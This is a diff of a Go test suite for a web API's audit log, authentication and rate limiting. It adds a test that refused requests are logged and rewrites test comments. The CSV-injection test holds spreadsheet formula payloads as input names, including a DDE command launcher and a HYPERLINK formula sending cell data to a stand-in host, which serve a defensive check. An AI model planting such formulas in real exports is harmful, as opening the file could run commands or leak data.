@@ -31,6 +31,17 @@ func (p *testPlant) eventsOf(query string) (list []struct{ Kind, By, About, Addr
 	return reply.Events
 }
 
+// noted holds that the event log has something that somebody did, about somebody or something.
+func (p *testPlant) noted(kind, by, about, detail string) {
+	p.t.Helper()
+	for _, e := range p.eventsOf("") {
+		if e.Kind == kind && e.By == by && e.About == about && strings.Contains(e.Detail, detail) {
+			return
+		}
+	}
+	p.t.Errorf("the log has no %s of %q about %q: %q", kind, by, about, detail)
+}
+
 // TestWhatIsDoneIsNoted does everything that the log is for, and finds it there, with who did it,
 // to whom, and no secret.
 func TestWhatIsDoneIsNoted(t *testing.T) {
@@ -105,7 +116,7 @@ func TestWhatIsDoneIsNoted(t *testing.T) {
 		}
 	}
 	rows, err := csv.NewReader(strings.NewReader(string(a.body))).ReadAll()
-	if err != nil || len(rows) != 1+len(steps)+3 || a.header.Get("Content-Type") != "text/csv; charset=utf-8" { // and three log-ins of the test's beginning
+	if err != nil || len(rows) != 1+len(steps)+3 || a.header.Get("Content-Type") != "text/csv; charset=utf-8" { // and three log-ins at the start
 		t.Errorf("%d rows, %v, %v", len(rows), err, a.header)
 	}
 	for _, who := range []string{"", "technician", "reviewer"} {
@@ -123,8 +134,51 @@ func TestWhatIsDoneIsNoted(t *testing.T) {
 	}
 }
 
-// TestTheTableHoldsNoFormula: OWASP, CSV injection: a cell that begins with one of these signs is
-// taken for a formula.
+// TestRefusedRightsAreNoted: OWASP ASVS 5.0, 16.3.2. A user who keeps asking for what they may not
+// have adds one line per hour and route, and never what they typed.
+func TestRefusedRightsAreNoted(t *testing.T) {
+	p := newPlant(t)
+	was := len(p.eventsOf(""))
+	ask := func(who, path string) {
+		t.Helper()
+		if a := p.do(who, "GET", path, ""); a.status != 403 {
+			t.Fatalf("%s %s: %d", who, path, a.status)
+		}
+	}
+	for range 3 {
+		ask("technician", "/api/events")
+		ask("technician", "/api/office/visits/a-secret-typed-here")
+		ask("reviewer", "/api/events")
+	}
+	list := p.eventsOf("")
+	if len(list) != was+3 {
+		t.Fatalf("%d entries of three refusals: %+v", len(list)-was, list)
+	}
+	for i, want := range []struct{ by, route string }{
+		{"reviewer", "GET /api/events"}, {"technician", "GET /api/office/visits/:id"}, {"technician", "GET /api/events"},
+	} {
+		if e := list[i]; e.Kind != "right_refused" || e.By != want.by || e.Detail != want.route || e.Address == "" {
+			t.Errorf("noted %+v, want %+v", e, want)
+		}
+	}
+	p.now = p.now.Add(time.Hour)
+	for _, who := range []string{"technician", "administrator"} {
+		a := p.do("", "POST", "/api/login", fmt.Sprintf(`{"name":%q,"password":%q}`, who, secret))
+		var in struct{ Access string }
+		if err := json.Unmarshal(a.body, &in); err != nil {
+			t.Fatalf("%d %s", a.status, a.body)
+		}
+		p.tokens[who] = in.Access
+		was++ // the log-in
+	}
+	ask("technician", "/api/events")
+	if list := p.eventsOf(""); len(list) != was+4 {
+		t.Errorf("%d entries after an hour", len(list)-was)
+	}
+}
+
+// TestTheTableHoldsNoFormula: OWASP, CSV injection: a spreadsheet takes a cell that begins with one
+// of these characters for a formula.
 func TestTheTableHoldsNoFormula(t *testing.T) {
 	p := newPlant(t)
 	for _, name := range []string{"=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,2)", `=HYPERLINK("http://e/"&A1,"PI-1")`} {
@@ -139,8 +193,8 @@ func TestTheTableHoldsNoFormula(t *testing.T) {
 	}
 }
 
-// TestRefusalsDoNotFillTheDisk: whoever guesses all day adds some lines a minute, and the next one
-// tells of the rest.
+// TestRefusalsDoNotFillTheDisk checks that guessing all day adds only some lines a minute, and that
+// the next line counts the rest.
 func TestRefusalsDoNotFillTheDisk(t *testing.T) {
 	p := newPlant(t)
 	guess := func(i int) {
@@ -164,7 +218,7 @@ func TestRefusalsDoNotFillTheDisk(t *testing.T) {
 	}
 }
 
-// TestInvitedByTheOffice: nobody but the invited person knows the password.
+// TestInvitedByTheOffice checks that only the invited person knows the password.
 func TestInvitedByTheOffice(t *testing.T) {
 	p := newPlant(t)
 	var made struct {
@@ -198,8 +252,8 @@ func TestInvitedByTheOffice(t *testing.T) {
 	}
 }
 
-// TestSecondFactorOverTheAPI: from its beginning to a log-in with it; and where it is required, the
-// office is shut to who lacks it.
+// TestSecondFactorOverTheAPI goes from making a second factor to a log-in with it. Where one is
+// required, the office is closed to users without it.
 func TestSecondFactorOverTheAPI(t *testing.T) {
 	p := newPlant(t)
 	p.handler = api.New(
@@ -265,9 +319,13 @@ func TestSecondFactorOverTheAPI(t *testing.T) {
 	if a := enter(""); a.status != 200 {
 		t.Errorf("after its end: %d %s", a.status, a.body)
 	}
+	p.handler = p.open() // where an administrator needs none
+	p.noted("second_begun", "reviewer", "reviewer", "")
+	p.noted("second_ended", "reviewer", "reviewer", "")
 }
 
-// TestRefreshInTwoHands: a token that had been replaced ends the log-in, and the log says so.
+// TestRefreshInTwoHands checks that a token that had been replaced ends the log-in, and that the
+// log says so.
 func TestRefreshInTwoHands(t *testing.T) {
 	p := newPlant(t)
 	renew := func(c *http.Cookie) answer {
@@ -289,12 +347,12 @@ func TestRefreshInTwoHands(t *testing.T) {
 	}
 }
 
-// TestTheProxysWordAlone: a phone at a private address is no proxy, whatever it says of itself (the
-// header as a proxy makes it of a forged one).
+// TestTheProxysWordAlone checks that a phone at a private address does not count as a proxy,
+// whatever it claims. The header is what a proxy makes of a forged one.
 func TestTheProxysWordAlone(t *testing.T) {
 	for _, tt := range []struct {
 		trusted, from string
-		want          int // of the last of many wrong passwords of one phone, for ever other names
+		want          int // for the last of many wrong passwords of one phone, each for another name
 	}{
 		{"127.0.0.1/32", "127.0.0.1", 429}, {"10.0.0.5/32", "10.0.0.5", 429}, {"10.0.0.5/32", "10.0.0.77", 429},
 	} {
@@ -326,7 +384,7 @@ func TestTheProxysWordAlone(t *testing.T) {
 	}
 }
 
-// TestRetryAfterIsTheWait: and a stranger's wrong passwords do not shut the owner out.
+// TestRetryAfterIsTheWait also checks that a stranger's wrong passwords do not lock the owner out.
 func TestRetryAfterIsTheWait(t *testing.T) {
 	p := newPlant(t)
 	var a answer
@@ -347,8 +405,8 @@ func TestRetryAfterIsTheWait(t *testing.T) {
 	}
 }
 
-// TestLeavingClearsTheBrowser: RFC 9110 has no such header; it is Clear-Site-Data of the W3C.
-// Storage stays: it holds unsent work.
+// TestLeavingClearsTheBrowser checks Clear-Site-Data (W3C; RFC 9110 has no such header). It leaves
+// storage alone, which holds unsent work.
 func TestLeavingClearsTheBrowser(t *testing.T) {
 	p := newPlant(t)
 	a := p.do("", "POST", "/api/logout", "")
@@ -360,7 +418,7 @@ func TestLeavingClearsTheBrowser(t *testing.T) {
 	}
 }
 
-// TestAPhotoIsErased by an administrator alone, with a reason, and nothing but a photo.
+// TestAPhotoIsErased checks that only an administrator can, with a reason, and only a photo.
 func TestAPhotoIsErased(t *testing.T) {
 	p := newPlant(t)
 	photo, record := []byte("a face"), []byte("a logger's record")
